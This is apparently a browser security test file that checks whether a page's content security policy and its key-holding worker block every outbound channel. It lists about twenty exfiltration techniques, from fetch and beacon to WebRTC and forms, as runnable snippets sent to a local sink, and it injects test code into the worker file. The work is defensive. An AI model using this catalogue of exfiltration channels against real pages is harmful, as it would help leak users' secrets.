// Every way out of a page is tried, from the page and from the worker that holds
// the keys, against a sink that notes what arrives. What gets out although it is
// forbidden stands in `known`, and for people under “What a policy cannot close”
// on the page: not hidden.

import assert from "node:assert/strict";
import dgram from "node:dgram";
import { readFileSync, writeFileSync } from "node:fs";
import http from "node:http";
import { join } from "node:path";
import { after, before } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { pathToFileURL } from "node:url";
import { build, story } from "./harness.mjs";

/** Long enough for a browser that means to connect on this machine. */
const wait = 1000;

/** Names of the exits that led to the sink; WebRTC speaks UDP and has no name. */
const arrived = new Set();
let sink, stun;

before(async () => {
  sink = http.createServer((request, response) => {
    if (request.url === "/free") return response.setHeader("Content-Type", "text/html").end("<title>free</title><body>");
    const [, kind, name] = request.url.split("/");
    if (kind === "leak") arrived.add(decodeURIComponent(name));
    response.writeHead(204).end();
  });
  sink.on("upgrade", (request, socket) => { arrived.add(decodeURIComponent(request.url.split("/")[2])); socket.destroy(); });
  stun = dgram.createSocket("udp4").on("message", () => arrived.add("WebRTC"));
  await new Promise((ok) => { sink.listen(0, "127.0.0.1", ok); });
  await new Promise((ok) => { stun.bind(0, "127.0.0.1", ok); });
});

after(() => { sink?.closeAllConnections(); sink?.close(); stun?.close(); });

const addresses = (name) => {
  const at = `//127.0.0.1:${sink.address().port}/leak/${encodeURIComponent(name)}`;
  return { http: `http:${at}`, ws: `ws:${at}`, stun: `stun:127.0.0.1:${stun.address().port}` };
};

const element = (tag, attributes) => `document.body.append(Object.assign(document.createElement("${tag}"), ${attributes}));`;

/** The exits of a page, as its own script would take them; `to` has the addresses. */
const exits = {
  fetch: "fetch(to.http, { mode: 'no-cors' })",
  "fetch with keepalive": "fetch(to.http, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('POST', to.http); x.send('x')",
  beacon: "navigator.sendBeacon(to.http, 'x')",
  WebSocket: "new WebSocket(to.ws)",
  EventSource: "new EventSource(to.http)",
  image: "new Image().src = to.http",
  style: element("link", "{ rel: 'stylesheet', href: to.http }"),
  ...Object.fromEntries(["prefetch", "preload", "modulepreload"].map((rel) => [rel, element("link", `{ rel: '${rel}', as: 'script', href: to.http }`)])),
  "image of a style": "document.body.style.setProperty('background-image', `url(${to.http})`)",
  font: "const f = new FontFace('leak', `url(${to.http})`); document.fonts.add(f); f.load()",
  video: element("video", "{ src: to.http }"),
  frame: element("iframe", "{ src: to.http }"),
  object: element("object", "{ data: to.http }"),
  import: "import(to.http)",
  worker: "new Worker(to.http)",
  ping: element("a", "{ href: '#ping', ping: to.http }") + "document.body.lastChild.click()",
  form: element("form", "{ action: to.http, method: 'post' }") + "document.body.lastChild.submit()",
  WebRTC: "const c = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] }); c.createDataChannel('x');"
    + `c.createOffer().then((o) => c.setLocalDescription(o)); setTimeout(() => c.close(), ${wait})`,
};

/** These end the page or open another; each is taken from a tab of its own. */
const departures = {
  navigation: "location.href = to.http",
  link: element("a", "{ href: to.http }") + "document.body.lastChild.click()",
  window: "open(to.http)",
};

const workerExits = {
  ...Object.fromEntries(["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "import", "worker"].map((name) => [name, exits[name]])),
  font: "new FontFace('leak', `url(${to.http})`).load()",
  importScripts: "importScripts(to.http)",
  WebTransport: "new WebTransport(to.http.replace('http:', 'https:'))",
};

/**
 * What leads out all the same. A page may always go elsewhere, with what it puts
 * into the address; only Chromium knows a header that stops it, and a file has no
 * headers. Firefox sends nothing by WebRTC on a machine without a network, so that
 * this says nothing about it there. The worker, which has the keys, has none of these.
 */
const known = {
  "chromium-hosted": [],
  "chromium-file": [...Object.keys(departures), "WebRTC"],
  "firefox-hosted": Object.keys(departures),
  "firefox-file": Object.keys(departures),
};

/** code is an exit that is refused in silence, or by a promise that nobody keeps. */
const code = (name, exit) => `try { const to = ${JSON.stringify(addresses(name))}; ${exit} } catch { }`;

async function attempt(page, name, exit) {
  await page.evaluate(`{ ${code(name, exit)} }`).catch(() => {}); // the page may be gone
}

story("no exit of the page leads out but those that are known", {}, async (v) => {
  v.expect(/./s); // every attempt is a breach and is told on the console
  arrived.clear();
  for (const [name, exit] of Object.entries(exits)) await attempt(v.page, name, exit);
  await sleep(2 * wait);
  for (const [name, exit] of Object.entries(departures)) {
    const other = await v.another();
    await attempt(other.page, name, exit);
    await sleep(wait);
    await other.page.close().catch(() => {});
  }
  await v.shot("leaks");
  assert.deepEqual([...arrived].sort(), [...known[v.ground.name]].sort());
});

// Drivers cannot speak to a worker in every browser. So the worker's own file gets
// the exits behind its last line; its policy and all headers stay as they are.
story("no exit of the worker leads out", {}, async (v) => {
  v.expect(/./s);
  const out = Object.entries(workerExits).map(([name, exit]) => code(name, exit)).join("\n");
  const tried = `\nsetTimeout(() => { ${out} postMessage({ tried: typeof document }); }, 0);\n`;
  const [address, end] = await (v.ground.way === "hosted" ? throughProxy(await v.ground.address(), tried) : inCopy(v.folder, tried));
  arrived.clear();
  try {
    const page = await v.context.newPage();
    await page.evaluateOnNewDocument(() => {
      const Plain = Worker;
      window.Worker = class extends Plain {
        constructor(...a) { super(...a); this.addEventListener("message", ({ data }) => { if (data?.tried) window.tried = data.tried; }); }
      };
    });
    await page.goto(address);
    await page.waitForFunction(() => window.tried === "undefined", { polling: 50, timeout: 20_000 });
    await sleep(2 * wait);
    await page.close();
    assert.deepEqual([...arrived], []);
  } finally { end(); }
});

/** throughProxy passes everything on as it is, but for the worker's file. */
async function throughProxy(upstream, more) {
  const proxy = http.createServer((request, response) => {
    http.get(new URL(request.url, upstream), { headers: { host: new URL(upstream).host } }, (answer) => {
      const worker = /worker-[^/]*\.js$/.test(request.url);
      const { "content-length": _, ...headers } = answer.headers;
      response.writeHead(answer.statusCode, headers);
      answer.on("end", () => response.end(worker ? more : "")).pipe(response, { end: false });
    });
  });
  await new Promise((ok) => { proxy.listen(0, "127.0.0.1", ok); });
  return [`http://127.0.0.1:${proxy.address().port}/`, () => { proxy.closeAllConnections(); proxy.close(); }];
}

/** inCopy is the single file with more behind the text of its worker. */
function inCopy(folder, more) {
  const path = join(folder, "tampered.html");
  const whole = readFileSync(join(build, "rootkiln.html"), "utf8");
  const [head, rest] = whole.split(/(?<=<script type="text\/plain" id="worker">)/);
  writeFileSync(path, head + rest.replace("</script>", () => `${more}</script>`));
  return [pathToFileURL(path).href, () => {}];
}

// The sink is no dead end: a page without a policy reaches it.
story("the sink hears a page that may speak", { on: /hosted/ }, async (v) => {
  const page = await v.context.newPage();
  await page.goto(new URL("/free", addresses("").http).href);
  arrived.clear();
  const heard = ["fetch", "fetch with keepalive", "XMLHttpRequest", "beacon", "WebSocket", "EventSource", "image", "style", "image of a style", "font", "video", "frame", "import", "worker", "ping", "form"];
  if (v.ground.browser === "chromium") heard.push("WebRTC");
  for (const name of heard.filter((n) => n !== "form")) await attempt(page, name, exits[name]);
  await sleep(wait);
  await attempt(page, "form", exits.form);
  await sleep(wait);
  const missing = heard.filter((name) => !arrived.has(name));
  assert.deepEqual(missing, v.ground.browser === "firefox" ? ["ping"] : []); // Firefox has no hyperlink auditing
  await page.close();
});
